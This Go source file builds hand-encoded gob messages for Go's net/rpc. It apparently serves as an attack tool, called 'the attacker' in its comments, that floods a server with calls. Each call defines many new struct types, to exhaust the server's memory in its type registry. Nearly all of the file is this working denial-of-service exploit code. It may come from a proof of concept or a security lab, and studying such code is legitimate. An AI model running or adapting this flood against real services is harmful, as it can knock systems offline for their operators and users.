package main

import (
	"encoding/binary"
	"strconv"
)

// gob's bootstrap type ids used here.
const (
	gobInt    = 2
	gobUint   = 3
	gobString = 6
	firstUser = 64 // the first id a stream may define
)

// gobBuf builds gob messages by hand: the flood needs thousands of
// distinct struct types, which reflect.StructOf would keep forever in the
// attacker.
type gobBuf struct{ b []byte }

func (g *gobBuf) uint(u uint64) {
	if u < 0x80 {
		g.b = append(g.b, byte(u))
		return
	}
	var be [8]byte
	binary.BigEndian.PutUint64(be[:], u)
	i := 0
	for be[i] == 0 {
		i++
	}
	g.b = append(g.b, byte(-(8 - i)))
	g.b = append(g.b, be[i:]...)
}

func (g *gobBuf) int(i int64) {
	if i < 0 {
		g.uint(uint64(^i)<<1 | 1)
		return
	}
	g.uint(uint64(i) << 1)
}

func (g *gobBuf) string(s string) {
	g.uint(uint64(len(s)))
	g.b = append(g.b, s...)
}

// message appends body as one gob message (its byte count first).
func (g *gobBuf) message(body []byte) {
	g.uint(uint64(len(body)))
	g.b = append(g.b, body...)
}

type field struct {
	name string
	id   int64
}

// structDef is the message defining struct type id: gob's wireType with
// its StructT (field 2: delta 3) set.
func structDef(id int64, name string, fields []field) []byte {
	var m gobBuf
	m.int(-id)
	m.uint(3) // StructT
	m.uint(1) // CommonType
	m.uint(1)
	m.string(name)
	m.uint(1)
	m.int(id)
	m.uint(0)
	m.uint(1) // Field
	m.uint(uint64(len(fields)))
	for _, f := range fields {
		m.uint(1)
		m.string(f.name)
		m.uint(1)
		m.int(f.id)
		m.uint(0)
	}
	m.uint(0) // end of structType
	m.uint(0) // end of wireType
	var g gobBuf
	g.message(m.b)
	return g.b
}

// fieldName is the n-th short field name: the more fields fit a message.
func fieldName(n int) string { return "F" + strconv.FormatInt(int64(n), 36) }

// flood writes one connection's calls: each call's header is a new
// struct type (net/rpc's ServiceMethod and Seq) with defs fields of new
// struct types of fields int fields, so each call defines defs+1 types.
type flood struct {
	defs, fields int
	nextID       int64
	argsID       int64 // GenIdArgs' id once defined
	seq          uint64
	intFields    []field
}

func newFlood(defs, fields int) *flood {
	f := &flood{defs: defs, fields: fields, nextID: firstUser + 1}
	for i := range fields {
		f.intFields = append(f.intFields, field{fieldName(i), gobInt})
	}
	return f
}

// call appends one GenId call to g.
func (f *flood) call(g *gobBuf) {
	hdr := []field{{"ServiceMethod", gobString}, {"Seq", gobUint}}
	for i := range f.defs {
		id := f.nextID
		f.nextID++
		g.b = append(g.b, structDef(id, "T"+strconv.FormatInt(id, 10), f.intFields)...)
		hdr = append(hdr, field{"N" + strconv.Itoa(i), id})
	}
	hid := f.nextID
	f.nextID++
	g.b = append(g.b, structDef(hid, "Request", hdr)...)
	var v gobBuf
	v.int(hid)
	v.uint(1)
	v.string("IdService.GenId")
	v.uint(1)
	v.uint(f.seq)
	v.uint(0)
	g.message(v.b)
	f.seq++
	if f.argsID == 0 {
		f.argsID = f.nextID
		f.nextID++
		g.b = append(g.b, structDef(f.argsID, "GenIdArgs", []field{{"Timeout", gobInt}, {"Token", gobString}})...)
	}
	var a gobBuf
	a.int(f.argsID)
	a.uint(0) // every field zero
	g.message(a.b)
}
